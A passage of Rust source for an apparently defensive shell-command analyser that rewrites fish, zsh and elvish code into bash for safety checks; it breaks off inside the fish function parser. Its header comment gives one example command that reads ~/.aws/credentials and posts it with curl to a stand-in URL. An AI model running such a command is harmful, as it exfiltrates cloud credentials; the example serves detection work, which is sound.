//! Readers for shells whose code is not bash: fish and zsh. `fish -c '…'` and `zsh -c '…'`
//! hand a string of their own syntax to another shell; read as bash it often fails to parse
//! (fish's `(cmd)` substitutions and `end` blocks, zsh's glob qualifiers `*(.)` and parameter
//! flags `${(f)…}`), and code nobody read is asked about. Agents use these shells for
//! ordinary work, so each syntax is read by a small reader of its own and rewritten into the
//! bash program that does the same thing; the caller then analyses that program with the same
//! walk as any `bash -c` string, so a dangerous line is judged exactly as its bash equivalent.
//!
//! Why a translation and not a second walker: every rule (deletion targets, credential flows,
//! downloads into shells, runners) is written once, against bash's structure. A fish `set -x K
//! (cat ~/.aws/credentials); curl -d $K URL` becomes `export K=$(cat ~/.aws/credentials); curl
//! -d "${K[@]}" URL`, and the existing flow analysis sees the exfiltration.
//!
//! Invariant: a reading that is not sure gives `None`, and the caller keeps today's outcome
//! (the text read as bash, which asks when it does not parse) — never an allow. The
//! translation over-approximates: a construct that may run code is translated as run
//! (`function … --on-event` bodies, zsh's `e:…:` glob qualifiers, `${(e)…}`), and what only
//! filters (glob qualifiers such as `(.)`, `(D)`, `(om[1,5])`) is dropped without hiding the
//! path it qualifies (`~/.ssh/*(D)` is still `~/.ssh/*`).
//!
//! Bounds: linear in the input; substitutions and blocks nest at most [`MAX_DEPTH`] deep
//! (deeper is `None`). No panics, no I/O.

/// Deepest nesting of substitutions, blocks and `eval` strings read; deeper is not read.
const MAX_DEPTH: usize = 48;

use std::fmt::Write as _;

/// A shell whose `-c` code has a syntax of its own that this module reads.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Dialect {
    Fish,
    Zsh,
    Elvish,
}

impl Dialect {
    /// The dialect of a shell named by its command name (`fish`, `zsh`; already lowercased
    /// and without directory).
    pub(crate) fn of_shell(name: &str) -> Option<Self> {
        match name {
            "fish" => Some(Self::Fish),
            "zsh" => Some(Self::Zsh),
            "elvish" => Some(Self::Elvish),
            _ => None,
        }
    }

    /// The dialect of a nested shell from the label its code is analysed under (`fish -c`).
    pub(crate) fn of_label(via: &str) -> Option<Self> {
        via.split(' ').next().and_then(Self::of_shell)
    }

    /// The bash program that runs what `src` runs in this dialect, or `None` when the reader
    /// is not sure (an unknown construct, an unbalanced block, nesting past [`MAX_DEPTH`]).
    pub(crate) fn to_bash(self, src: &str) -> Option<String> {
        match self {
            Self::Fish => fish_to_bash(src, 0),
            Self::Zsh => zsh_to_bash(src, 0),
            Self::Elvish => elvish_to_bash(src),
        }
    }
}

/// Bash words that are reserved at a command's start: a fish command of that name is quoted so
/// bash reads it as a command, not as grammar.
const BASH_RESERVED: &[&str] = &[
    "if", "then", "elif", "else", "fi", "case", "esac", "for", "select", "while", "until", "do",
    "done", "in", "function", "time", "{", "}", "!", "[[", "]]", "coproc",
];

/// A literal as one bash word: bare when every character is inert, single-quoted otherwise.
fn bash_lit(s: &str) -> String {
    if !s.is_empty()
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || "_./,:=@%+-".contains(c))
    {
        return s.to_owned();
    }
    let mut out = String::with_capacity(s.len() + 2);
    out.push('\'');
    for c in s.chars() {
        if c == '\'' {
            out.push_str("'\\''");
        } else {
            out.push(c);
        }
    }
    out.push('\'');
    out
}

fn is_name(s: &str) -> bool {
    !s.is_empty()
        && !s.starts_with(|c: char| c.is_ascii_digit())
        && s.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

// ---------------------------------------------------------------------------------------------
// elvish

/// Elvish code as the bash program that runs the same commands, for the shapes agents give it:
/// commands and pipelines (`|`, `;`, newlines), single quotes (`''` is a quote), double quotes,
/// output captures `(cmd)` → `$(cmd)`, the external-command namespace `e:rm` → `rm`, the
/// environment namespace `$E:HOME` → `${HOME}`, variables `$x` → `${x}`, comments, and
/// lambdas and control blocks (`{ … }`, `if … { … } else { … }`, `for x [a b] { … }`,
/// `try { … }`), whose bodies are read as run (over-approximation: a branch not taken is
/// judged as if taken). Anything else — `var`/`set` assignments, maps and lists `[…]`,
/// indexing, `fn` definitions, redirections with `&` — gives `None`, and the caller keeps
/// the bash reading of the text (which asks when it does not parse).
fn elvish_to_bash(src: &str) -> Option<String> {
    let bytes = src.as_bytes();
    let mut out = String::with_capacity(src.len() + 16);
    let mut i = 0;
    // At the start of a command: the next word is a command name.
    let mut at_command = true;
    let mut depth = 0usize;
    // A command separator owed before the next word or block (newlines and `;` are emitted
    // lazily, so `}` followed by a newline does not become bash's `;;`).
    let mut pending = false;
    while i < bytes.len() {
        let byte = bytes[i];
        match byte {
            b' ' | b'\t' => {
                out.push(byte as char);
                i += 1;
            }
            b'\n' | b';' => {
                pending = !out.trim_end().is_empty() && !out.trim_end().ends_with(['{', '|']);
                at_command = true;
                i += 1;
            }
            b'|' => {
                out.push('|');
                pending = false;
                at_command = true;
                i += 1;
            }
            b'#' if at_command || out.ends_with([' ', '\t']) => {
                while i < bytes.len() && bytes[i] != b'\n' {
                    i += 1;
                }
            }
            b'{' => {
                // A block or lambda: its body runs (the caller's judgement over-approximates).
                depth += 1;
                if depth > MAX_DEPTH {
                    return None;
                }
                i += 1;
                // A lambda's parameter list `{|a b| …}`.
                let rest = src.get(i..)?.trim_start();
                if let Some(params) = rest.strip_prefix('|') {
                    let end = params.find('|')?;
                    i = src.len() - params.len() + end + 1;
                }
                if pending {
                    out.push_str("; ");
                    pending = false;
                }
                out.push_str(" { ");
                at_command = true;
            }
            b'}' => {
                depth = depth.checked_sub(1)?;
                if out.trim_end().ends_with('{') {
                    out.push(':');
                }
                out.push_str("; }");
                pending = true;
                at_command = true;
                i += 1;
            }
            _ => {
                // A word (possibly of several quoted and bare parts).
                let start = i;
                let mut word = String::new();
                while i < bytes.len()
                    && !matches!(bytes[i], b' ' | b'\t' | b'\n' | b';' | b'|' | b'{' | b'}')
                {
                    match bytes[i] {
                        b'\'' => {
                            let mut lit = String::new();
                            i += 1;
                            loop {
                                match bytes.get(i)? {
                                    b'\'' if bytes.get(i + 1) == Some(&b'\'') => {
                                        lit.push('\'');
                                        i += 2;
                                    }
                                    b'\'' => {
                                        i += 1;
                                        break;
                                    }
                                    _ => {
                                        let ch = src.get(i..)?.chars().next()?;
                                        lit.push(ch);
                                        i += ch.len_utf8();
                                    }
                                }
                            }
                            word.push_str(&bash_lit(&lit));
                        }
                        b'"' => {
                            // Double quotes: backslash escapes, no interpolation in elvish.
                            let mut lit = String::new();
                            i += 1;
                            loop {
                                match bytes.get(i)? {
                                    b'"' => {
                                        i += 1;
                                        break;
                                    }
                                    b'\\' => {
                                        let esc = *bytes.get(i + 1)?;
                                        match esc {
                                            b'n' => lit.push('\n'),
                                            b't' => lit.push('\t'),
                                            b'\\' | b'"' => lit.push(esc as char),
                                            // `\x41`, `\u0070`: an escape that spells text
                                            // is not read here.
                                            _ => return None,
                                        }
                                        i += 2;
                                    }
                                    _ => {
                                        let ch = src.get(i..)?.chars().next()?;
                                        lit.push(ch);
                                        i += ch.len_utf8();
                                    }
                                }
                            }
                            word.push_str(&bash_lit(&lit));
                        }
                        b'$' => {
                            i += 1;
                            let rest = src.get(i..)?;
                            let (ns, rest) = match rest.strip_prefix("E:") {
                                Some(r) => (true, r),
                                None => (false, rest),
                            };
                            let len = rest
                                .bytes()
                                .take_while(|x| {
                                    x.is_ascii_alphanumeric() || matches!(x, b'_' | b'-')
                                })
                                .count();
                            let name = rest.get(..len)?;
                            if !is_name(name) || (!ns && name.contains('-')) {
                                return None;
                            }
                            // Indexing (`$x[0]`) and other namespaces are not read.
                            if rest[len..].starts_with(['[', ':']) {
                                return None;
                            }
                            let _ = write!(word, "\"${{{name}}}\"");
                            i += usize::from(ns) * 2 + len;
                        }
                        b'(' => {
                            // An output capture: the balanced text read as elvish again.
                            let mut level = 0usize;
                            let mut close = i;
                            let mut quote: Option<u8> = None;
                            loop {
                                let ch = *bytes.get(close)?;
                                match (quote, ch) {
                                    (Some(q), x) if x == q => quote = None,
                                    (None, b'\'' | b'"') => quote = Some(ch),
                                    (None, b'(') => level += 1,
                                    (None, b')') => {
                                        level -= 1;
                                        if level == 0 {
                                            break;
                                        }
                                    }
                                    _ => {}
                                }
                                close += 1;
                            }
                            let inner = elvish_to_bash(src.get(i + 1..close)?)?;
                            let _ = write!(word, "\"$({inner})\"");
                            i = close + 1;
                        }
                        // Lists, maps and indexing; `&opt=value` options and `@rest`
                        // explosions at a word's start.
                        b'[' | b']' | b'`' => return None,
                        b'&' if i == start => return None,
                        _ => {
                            let ch = src.get(i..)?.chars().next()?;
                            word.push(ch);
                            i += ch.len_utf8();
                        }
                    }
                }
                if i == start {
                    return None;
                }
                let raw = src.get(start..i)?;
                // `} else {`: the branches become blocks in a row, each read as run.
                if pending {
                    out.push_str("; ");
                    pending = false;
                }
                if at_command {
                    if matches!(raw, "var" | "set" | "fn" | "tmp" | "del" | "use" | "pragma") {
                        return None;
                    }
                    // `e:rm` is the external `rm`.
                    if let Some(name) = word.strip_prefix("e:") {
                        word = name.to_owned();
                    }
                    // Control words take their blocks: the next words (conditions, the loop's
                    // variable and list) are data; the blocks are read as run.
                    if matches!(raw, "if" | "elif" | "while" | "for") {
                        // Skip to the block: the condition of `if (cond)` is a capture
                        // that runs, keep it as a command of its own.
                        let mut stop = i;
                        while stop < bytes.len() && bytes[stop] != b'{' {
                            if bytes[stop] == b'\n' || bytes[stop] == b';' {
                                return None;
                            }
                            stop += 1;
                        }
                        let cond = src.get(i..stop)?.trim();
                        if raw != "for" && cond.starts_with('(') && cond.ends_with(')') {
                            let inner = elvish_to_bash(&cond[1..cond.len() - 1])?;
                            let _ = write!(out, "{inner}; ");
                        } else if raw == "for" {
                            // `for x [a b]`: the list is data.
                        } else if !cond.is_empty() && !cond.starts_with('$') {
                            return None;
                        }
                        i = stop;
                        at_command = false;
                        continue;
                    }
                    if matches!(raw, "else" | "try" | "catch" | "finally") {
                        // `catch e {`: the variable is a name.
                        let mut stop = i;
                        while stop < bytes.len() && bytes[stop] != b'{' {
                            if !matches!(bytes[stop], b' ' | b'\t') && raw != "catch" {
                                return None;
                            }
                            stop += 1;
                        }
                        i = stop;
                        continue;
                    }
                }
                out.push_str(&word);
                at_command = false;
            }
        }
    }
    (depth == 0).then_some(out)
}

// ---------------------------------------------------------------------------------------------
// fish

fn fish_to_bash(src: &str, depth: usize) -> Option<String> {
    if depth > MAX_DEPTH {
        return None;
    }
    let mut f = Fish {
        s: src.chars().collect(),
        i: 0,
        depth,
        peeked: None,
        nest: 0,
        lists: std::collections::HashSet::new(),
    };
    let out = f.body(&[])?;
    match f.next()? {
        Tok::Eof => Some(out.text),
        _ => None,
    }
}

/// A fish word read and rewritten: its bash text, its value when it expands to exactly one
/// known string, and whether it was written bare (only then is it a keyword).
#[derive(Debug, Clone)]
struct FWord {
    bash: String,
    value: Option<String>,
    bare: bool,
}

impl FWord {
    fn keyword(&self) -> Option<&str> {
        if self.bare {
            self.value.as_deref()
        } else {
            None
        }
    }
}

#[derive(Debug, Clone)]
enum Tok {
    Word(FWord),
    /// A whole redirection in bash spelling, target included (`2>&1`, `>'out.txt'`).
    Redir(String),
    /// `;`, a newline or `&` (background).
    Sep(char),
    /// `|`, or `|&` for fish's `&|`.
    Pipe(&'static str),
    And,
    Or,
    /// An unquoted `)` closing a command substitution.
    Close,
    Eof,
}

struct Fish {
    s: Vec<char>,
    i: usize,
    depth: usize,
    peeked: Option<Tok>,
    /// Statements and brace expansions being read inside each other (`not not …`, `begin
    /// begin …`, `{{…}}`): bounded by [`MAX_DEPTH`] so the reader's stack is.
    nest: usize,
    /// Variables this program assigned a list of other than one value (`set x a b`): they
    /// expand to all their elements. Any other variable is read as one value, the way bash's
    /// `"${x}"` is, so its value is tracked like a bash variable's.
    lists: std::collections::HashSet<String>,
}

/// Statements translated.
struct Body {
    text: String,
}

impl Fish {
    fn at(&self, k: usize) -> Option<char> {
        self.s.get(self.i + k).copied()
    }

    fn peek(&mut self) -> Option<&Tok> {
        if self.peeked.is_none() {
            let t = self.lex()?;
            self.peeked = Some(t);
        }
        self.peeked.as_ref()
    }

    fn next(&mut self) -> Option<Tok> {
        match self.peeked.take() {
            Some(t) => Some(t),
            None => self.lex(),
        }
    }

    fn peek_keyword(&mut self) -> Option<String> {
        match self.peek() {
            Some(Tok::Word(w)) => w.keyword().map(str::to_owned),
            _ => None,
        }
    }

    fn skip_blank(&mut self) {
        while let Some(c) = self.at(0) {
            if c == ' ' || c == '\t' || c == '\r' {
                self.i += 1;
            } else if c == '\\' && self.at(1) == Some('\n') {
                self.i += 2;
            } else {
                break;
            }
        }
    }

    fn lex(&mut self) -> Option<Tok> {
        self.skip_blank();
        let Some(c) = self.at(0) else {
            return Some(Tok::Eof);
        };
        match c {
            '#' => {
                while self.at(0).is_some_and(|c| c != '\n') {
                    self.i += 1;
                }
                self.lex()
            }
            '\n' | ';' => {
                self.i += 1;
                Some(Tok::Sep(c))
            }
            ')' => {
                if self.depth == 0 {
                    return None;
                }
                self.i += 1;
                Some(Tok::Close)
            }
            '|' => {
                if self.at(1) == Some('|') {
                    self.i += 2;
                    Some(Tok::Or)
                } else {
                    self.i += 1;
                    Some(Tok::Pipe("|"))
                }
            }
            '&' => match self.at(1) {
                Some('&') => {
                    self.i += 2;
                    Some(Tok::And)
                }
                Some('|') => {
                    self.i += 2;
                    Some(Tok::Pipe("|&"))
                }
                Some('>') => self.redirection(),
                _ => {
                    self.i += 1;
                    Some(Tok::Sep('&'))
                }
            },
            '<' | '>' | '^' => self.redirection(),
            d if d.is_ascii_digit() => {
                let mut k = 0;
                while self.at(k).is_some_and(|c| c.is_ascii_digit()) {
                    k += 1;
                }
                if matches!(self.at(k), Some('<' | '>')) {
                    self.redirection()
                } else {
                    self.word().map(Tok::Word)
                }
            }
            _ => self.word().map(Tok::Word),
        }
    }

    /// A redirection: `[N]>`, `>>`, `<`, `>?` (no-clobber), `<?`, `&>`, `&>>`, `^`/`^^`
    /// (standard error), then `&N`/`&-` or a target word.
    fn redirection(&mut self) -> Option<Tok> {
        let mut op = String::new();
        while let Some(d) = self.at(0).filter(char::is_ascii_digit) {
            op.push(d);
            self.i += 1;
        }
        match (self.at(0), self.at(1)) {
            (Some('&'), Some('>')) => {
                self.i += 2;
                op.push_str("&>");
                if self.at(0) == Some('>') {
                    self.i += 1;
                    op.push('>');
                }
            }
            (Some('^'), _) => {
                self.i += 1;
                "2>".clone_into(&mut op);
                if self.at(0) == Some('^') {
                    self.i += 1;
                    op.push('>');
                }
            }
            (Some('>'), Some('>')) => {
                self.i += 2;
                op.push_str(">>");
            }
            (Some(c @ ('<' | '>')), _) => {
                self.i += 1;
                op.push(c);
                if self.at(0) == Some('?') {
                    self.i += 1;
                }
            }
            _ => return None,
        }
        if self.at(0) == Some('&') {
            let mut k = 1;
            while self.at(k).is_some_and(|c| c.is_ascii_digit()) {
                k += 1;
            }
            if k == 1 && self.at(1) != Some('-') {
                return None;
            }
            let k = if k == 1 { 2 } else { k };
            let target: String = self.s.get(self.i..self.i + k)?.iter().collect();
            self.i += k;
            return Some(Tok::Redir(format!("{op}{target}")));
        }
        self.skip_blank();
        match self.at(0) {
            None | Some('\n' | ';' | '|' | '&' | '<' | '>' | ')') => None,
            Some(_) => {
                let w = self.word()?;
                Some(Tok::Redir(format!("{op}{}", w.bash)))
            }
        }
    }

    /// One word up to an unquoted blank or operator.
    fn word(&mut self) -> Option<FWord> {
        let mut w = FWord {
            bash: String::new(),
            value: Some(String::new()),
            bare: true,
        };
        let start = self.i;
        self.word_parts(&mut w, start, false)?;
        if self.i == start {
            return None;
        }
        Some(w)
    }

    fn push_lit(w: &mut FWord, s: &str) {
        w.bash.push_str(&bash_lit(s));
        if let Some(v) = &mut w.value {
            v.push_str(s);
        }
    }

    /// Reads word parts into `w` until a delimiter; inside a brace expansion (`in_brace`) a
    /// `,` or `}` ends the part too.
    fn word_parts(&mut self, w: &mut FWord, start: usize, in_brace: bool) -> Option<()> {
        let mut lit = String::new();
        let flush = |w: &mut FWord, lit: &mut String| {
            if !lit.is_empty() {
                Self::push_lit(w, lit);
                lit.clear();
            }
        };
        while let Some(c) = self.at(0) {
            match c {
                ' ' | '\t' | '\r' | '\n' | ';' | '|' | '&' | '<' | '>' | ')' => break,
                ',' | '}' if in_brace => break,
                '\\' => {
                    let Some(n) = self.at(1) else {
                        self.i += 1;
                        break;
                    };
                    self.i += 2;
                    w.bare = false;
                    match n {
                        '\n' => {}
                        'n' => lit.push('\n'),
                        't' => lit.push('\t'),
                        'r' => lit.push('\r'),
                        'e' => lit.push('\u{1b}'),
                        'a' => lit.push('\u{7}'),
                        'b' => lit.push('\u{8}'),
                        'f' => lit.push('\u{c}'),
                        'v' => lit.push('\u{b}'),
                        'x' | 'X' | 'u' | 'U' | 'c' | '0'..='7' => {
                            // Numeric escapes: the character is not worth decoding for what a
                            // command does; an unknown character keeps the word inexact.
                            while self.at(0).is_some_and(|c| c.is_ascii_hexdigit()) {
                                self.i += 1;
                            }
                            flush(w, &mut lit);
                            w.bash.push('?');
                            w.value = None;
                        }
                        other => lit.push(other),
                    }
                }
                '\'' => {
                    self.i += 1;
                    w.bare = false;
                    loop {
                        match self.at(0)? {
                            '\'' => {
                                self.i += 1;
                                break;
                            }
                            '\\' if matches!(self.at(1), Some('\\' | '\'')) => {
                                lit.push(self.at(1)?);
                                self.i += 2;
                            }
                            ch => {
                                lit.push(ch);
                                self.i += 1;
                            }
                        }
                    }
                }
                '"' => {
                    self.i += 1;
                    w.bare = false;
                    flush(w, &mut lit);
                    self.double_quoted(w)?;
                }
                '$' => {
                    flush(w, &mut lit);
                    self.variable(w, false)?;
                }
                '(' => {
                    flush(w, &mut lit);
                    self.i += 1;
                    let inner = self.substitution()?;
                    w.bash.push_str(&inner);
                    w.value = None;
                    w.bare = false;
                }
                '{' => {
                    flush(w, &mut lit);
                    self.i += 1;
                    self.brace(w)?;
                }
                '~' if self.i == start && !in_brace => {
                    self.i += 1;
                    w.bash.push('~');
                    w.value = None;
                }
                '*' | '?' => {
                    flush(w, &mut lit);
                    self.i += 1;
                    w.bash.push(c);
                    w.value = None;
                }
                other => {
                    lit.push(other);
                    self.i += 1;
                }
            }
        }
        flush(w, &mut lit);
        Some(())
    }

    /// `{a,b}` brace expansion (the `{` read): alternatives are word parts; `{a}` is `a`.
    fn brace(&mut self, w: &mut FWord) -> Option<()> {
        self.nest += 1;
        let r = self.brace_alternatives(w);
        self.nest -= 1;
        r
    }

    fn brace_alternatives(&mut self, w: &mut FWord) -> Option<()> {
        if self.nest > MAX_DEPTH {
            return None;
        }
        let mut alts: Vec<FWord> = Vec::new();
        loop {
            let mut alt = FWord {
                bash: String::new(),
                value: Some(String::new()),
                bare: false,
            };
            let start = self.i;
            self.word_parts(&mut alt, start, true)?;
            alts.push(alt);
            match self.at(0)? {
                ',' => self.i += 1,
                '}' => {
                    self.i += 1;
                    break;
                }
                _ => return None,
            }
        }
        w.bare = false;
        if let [one] = alts.as_slice() {
            if one.bash.is_empty() {
                Self::push_lit(w, "{}");
            } else {
                w.bash.push_str(&one.bash);
                match (&mut w.value, &one.value) {
                    (Some(v), Some(o)) => v.push_str(o),
                    _ => w.value = None,
                }
            }
            return Some(());
        }
        w.bash.push('{');
        for (n, alt) in alts.iter().enumerate() {
            if n > 0 {
                w.bash.push(',');
            }
            if alt.bash.is_empty() {
                w.bash.push_str("''");
            } else {
                w.bash.push_str(&alt.bash);
            }
        }
        w.bash.push('}');
        w.value = None;
        Some(())
    }

    /// A command substitution's program (the `(` read) up to its `)`, as `$(…)`; a
    /// substitution piped into `psub` is a process substitution.
    fn substitution(&mut self) -> Option<String> {
        if self.depth >= MAX_DEPTH {
            return None;
        }
        let saved = self.peeked.take();
        if saved.is_some() {
            return None;
        }
        self.depth += 1;
        let body = self.body(&[]);
        let close = self.next();
        self.depth -= 1;
        let body = body?;
        if !matches!(close?, Tok::Close) {
            return None;
        }
        let text = body.text;
        if let Some(inner) = text.strip_suffix(" | psub") {
            return Some(format!("<({inner})"));
        }
        if text.starts_with('(') {
            Some(format!("$( {text})"))
        } else {
            Some(format!("$({text})"))
        }
    }

    /// A double-quoted string (the `"` read): `$var`, `$(cmd)` expand; `\"`, `\\`, `\$` and
    /// `\` newline are escapes; nothing else is special (no backquotes in fish).
    fn double_quoted(&mut self, w: &mut FWord) -> Option<()> {
        w.bash.push('"');
        loop {
            match self.at(0)? {
                '"' => {
                    self.i += 1;
                    break;
                }
                '\\' => {
                    let n = self.at(1)?;
                    self.i += 2;
                    match n {
                        '\n' => {}
                        '"' | '\\' | '$' => Self::push_dq(w, n),
                        other => {
                            Self::push_dq(w, '\\');
                            Self::push_dq(w, other);
                        }
                    }
                }
                '$' => self.variable(w, true)?,
                ch => {
                    self.i += 1;
                    Self::push_dq(w, ch);
                }
            }
        }
        w.bash.push('"');
        Some(())
    }

    fn push_dq(w: &mut FWord, c: char) {
        if matches!(c, '"' | '\\' | '$' | '`') {
            w.bash.push('\\');
        }
        w.bash.push(c);
        if let Some(v) = &mut w.value {
            v.push(c);
        }
    }

    /// `$name`, `$name[index]`, `$(cmd)`, `$$name` (the `$` not read yet).
    fn variable(&mut self, w: &mut FWord, quoted: bool) -> Option<()> {
        self.i += 1;
        w.value = None;
        w.bare = false;
        if self.at(0) == Some('(') {
            self.i += 1;
            // `$(cmd)` reads the same inside a bash double-quoted string.
            let inner = self.substitution()?;
            w.bash.push_str(&inner);
            return Some(());
        }
        let indirect = self.at(0) == Some('$');
        if indirect {
            while self.at(0) == Some('$') {
                self.i += 1;
            }
        }
        let mut name = String::new();
        while let Some(c) = self
            .at(0)
            .filter(|c| c.is_ascii_alphanumeric() || *c == '_')
        {
            name.push(c);
            self.i += 1;
        }
        if name.is_empty() {
            return None;
        }
        let index = if self.at(0) == Some('[') {
            let mut k = 1;
            let mut idx = String::new();
            loop {
                match self.at(k)? {
                    ']' => break,
                    c if c.is_ascii_digit() || c == '-' || c == '.' || c == ' ' => idx.push(c),
                    _ => return None,
                }
                k += 1;
            }
            self.i += k + 1;
            Some(idx)
        } else {
            None
        };
        let list = self.lists.contains(&name);
        let all = match (list, quoted) {
            (false, _) => "",
            (true, true) => "[*]",
            (true, false) => "[@]",
        };
        let open = if quoted { "" } else { "\"" };
        let expr = if indirect {
            // `$$name`: the variable named by `name`'s value, known only at run time.
            format!("${{!{name}}}")
        } else {
            let one = index
                .as_deref()
                .map(str::trim)
                .and_then(|i| i.parse::<i64>().ok());
            match (name.as_str(), one) {
                ("argv", None) => if quoted { "$*" } else { "$@" }.to_owned(),
                ("argv", Some(n)) if n > 0 => format!("${{{n}}}"),
                ("status", _) => "$?".to_owned(),
                ("fish_pid" | "pid", _) => "$$".to_owned(),
                ("last_pid", _) => "$!".to_owned(),
                (_, Some(1)) if !list => format!("${{{name}}}"),
                (_, Some(n)) if n > 0 => format!("${{{name}[{}]}}", n - 1),
                (_, Some(n)) if n < 0 => format!("${{{name}[{n}]}}"),
                _ => format!("${{{name}{all}}}"),
            }
        };
        w.bash.push_str(open);
        w.bash.push_str(&expr);
        w.bash.push_str(open);
        Some(())
    }

    // --- statements

    /// Statements up to one of `ends` (a keyword at a statement's start, not consumed), a
    /// closing `)` or the end of the input.
    fn body(&mut self, ends: &[&str]) -> Option<Body> {
        let mut text = String::new();
        let mut sep = "";
        loop {
            match self.peek()? {
                Tok::Sep('&') => return None,
                Tok::Sep(_) => {
                    self.next();
                    continue;
                }
                Tok::Eof | Tok::Close => {
                    if !ends.is_empty() {
                        return None;
                    }
                    break;
                }
                _ => {}
            }
            if let Some(k) = self.peek_keyword()
                && ends.contains(&k.as_str())
            {
                break;
            }
            let list = self.and_or()?;
            text.push_str(sep);
            text.push_str(&list);
            sep = match self.peek()? {
                Tok::Sep('&') => {
                    self.next();
                    " & "
                }
                Tok::Sep(_) | Tok::Eof | Tok::Close => "; ",
                _ => return None,
            };
        }
        if sep == " & " {
            text.push_str(" &");
        }
        Some(Body { text })
    }

    /// Jobs joined by `&&`/`||`.
    fn and_or(&mut self) -> Option<String> {
        let mut out = self.pipeline()?;
        loop {
            let op = match self.peek()? {
                Tok::And => " && ",
                Tok::Or => " || ",
                _ => return Some(out),
            };
            self.next();
            while matches!(self.peek()?, Tok::Sep('\n')) {
                self.next();
            }
            out.push_str(op);
            out.push_str(&self.pipeline()?);
        }
    }

    fn pipeline(&mut self) -> Option<String> {
        let mut out = self.statement()?;
        while let Tok::Pipe(p) = self.peek()? {
            let p = *p;
            self.next();
            while matches!(self.peek()?, Tok::Sep('\n')) {
                self.next();
            }
            out.push(' ');
            out.push_str(p);
            out.push(' ');
            out.push_str(&self.statement()?);
        }
        Some(out)
    }

    fn statement(&mut self) -> Option<String> {
        self.nest += 1;
        let r = if self.nest > MAX_DEPTH {
            None
        } else {
            self.statement_inner()
        };
        self.nest -= 1;
        r
    }

    fn statement_inner(&mut self) -> Option<String> {
        let Some(k) = self.peek_keyword() else {
            return self.simple();
        };
        match k.as_str() {
            "not" | "!" => {
                self.next();
                Some(format!("! {}", self.statement()?))
            }
            // `cmd; and other`: the status test is dropped, the statement is read as run.
            "and" | "or" => {
                self.next();
                self.statement()
            }
            "time" => {
                self.next();
                Some(format!("time {}", self.statement()?))
            }
            "begin" => {
                self.next();
                let b = self.body(&["end"])?;
                let tail = self.block_end()?;
                Some(format!("{{ {}; }}{tail}", nonempty(&b.text)))
            }
            "if" => self.if_block(),
            "while" => {
                self.next();
                let cond = self.and_or()?;
                let b = self.body(&["end"])?;
                let tail = self.block_end()?;
                Some(format!(
                    "while {cond}; do {}; done{tail}",
                    nonempty(&b.text)
                ))
            }
            "for" => self.for_block(),
            "switch" => self.switch_block(),
            "function" => self.function_block(),
            "end" | "else" | "case" => None,
            _ => self.simple(),
        }
    }

    /// `end` and the redirections written after it (`end > log`).
    fn block_end(&mut self) -> Option<String> {
        match self.next()? {
            Tok::Word(w) if w.keyword() == Some("end") => {}
            _ => return None,
        }
        let mut tail = String::new();
        while let Tok::Redir(_) = self.peek()? {
            if let Some(Tok::Redir(r)) = self.next() {
                tail.push(' ');
                tail.push_str(&r);
            }
        }
        Some(tail)
    }

    fn if_block(&mut self) -> Option<String> {
        self.next();
        let cond = self.and_or()?;
        let mut out = format!("if {cond}; then ");
        let b = self.body(&["else", "end"])?;
        out.push_str(nonempty(&b.text));
        loop {
            if self.peek_keyword().as_deref() == Some("end") {
                break;
            }
            self.next();
            if self.peek_keyword().as_deref() == Some("if") {
                self.next();
                let cond = self.and_or()?;
                let b = self.body(&["else", "end"])?;
                let _ = write!(out, "; elif {cond}; then {}", nonempty(&b.text));
            } else {
                let b = self.body(&["end"])?;
                let _ = write!(out, "; else {}", nonempty(&b.text));
                break;
            }
        }
        let tail = self.block_end()?;
        out.push_str("; fi");
        out.push_str(&tail);
        Some(out)
    }

    fn for_block(&mut self) -> Option<String> {
        self.next();
        let Some(Tok::Word(var)) = self.next() else {
            return None;
        };
        let var = var.keyword().filter(|v| is_name(v))?.to_owned();
        let Some(Tok::Word(kw)) = self.next() else {
            return None;
        };
        if kw.keyword() != Some("in") {
            return None;
        }
        let mut items = Vec::new();
        loop {
            match self.next()? {
                Tok::Word(w) => items.push(w.bash),
                Tok::Sep(';' | '\n') => break,
                _ => return None,
            }
        }
        let b = self.body(&["end"])?;
        let tail = self.block_end()?;
        Some(format!(
            "for {var} in {}; do {}; done{tail}",
            items.join(" "),
            nonempty(&b.text)
        ))
    }

    fn switch_block(&mut self) -> Option<String> {
        self.next();
        let Some(Tok::Word(subject)) = self.next() else {
            return None;
        };
        let mut out = format!("case {} in", subject.bash);
        loop {
            match self.peek()? {
                Tok::Sep(';' | '\n') => {
                    self.next();
                }
                Tok::Word(w) if w.keyword() == Some("case") => {
                    self.next();
                    let mut pats = Vec::new();
                    loop {
                        match self.next()? {
                            Tok::Word(w) => pats.push(w.bash),
                            Tok::Sep(';' | '\n') => break,
                            _ => return None,
                        }
                    }
                    if pats.is_empty() {
                        return None;
                    }
                    let b = self.body(&["case", "end"])?;
                    let _ = write!(out, " {}) {};;", pats.join("|"), nonempty(&b.text));
                }
                Tok::Word(w) if w.keyword() == Some("end") => break,
                _ => return None,
            }
        }
        let tail = self.block_end()?;
        out.push_str(" esac");
        out.push_str(&tail);
        Some(out)
    }

    /// `function NAME [OPTIONS]; BODY; end` is `NAME() { BODY; }`. `-a`/`--argument-names`
    /// bind the arguments to names; a handler (`--on-event`, `--on-variable`, `--on-signal`,
    /// `--on-job-exit`, `--on-process-exit`) runs later without being called, so its body is
    /// read as run.
    fn function_block(&mut self) -> Option<String> {
        self.next();
        let Some(Tok::Word(name)) = self.next() else {
            return None;
        };
        let name = name.value.filter(|n| {
            !n.is_empty()
                && !n.starts_with('-')
                && n.chars()
                    .all(|c| c.is_ascii_alphanumeric() || "_-.:+@".contains(c))
        })?;
        let mut opts = Vec::new();
        loop {
            match self.next()? {
                Tok::Word(w) => opts.push(w.value),
                Tok::Sep(';' | '\n') => break,
                _ => return None,
            }
        }
        let mut prologue = String::new();
        let mut handler = false;
        let mut naming = false;
        let mut n = 0;
        let mut k = 0;
        while let Some(opt) = opts.get(k) {
            let o = opt.as_deref()?;
            k += 1;
            if o.starts_with("--on-")
                || (o.starts_with('-')
                    && !o.starts_with("--")
                    && o.len() == 2
                    && o[1..].chars().all(|c| "evsjp".contains(c)))
            {
                handler = true;
                naming = false;
                if !o.contains('=') {
                    k += 1;
                }
                continue;
            }
            if matches!(o, "-a" | "--argument-names") {
                naming = true;
                continue;
            }
            if matches!(
                o,
                "-d" | "--description" | "-w" | "--wraps" | "-V" | "--inherit-variable"
            ) {
                naming = false;
                k += 1;
                continue;
            }
            if o.starts_with('-') {
                naming = false;
                continue;
            }
            if naming && is_name(o) {
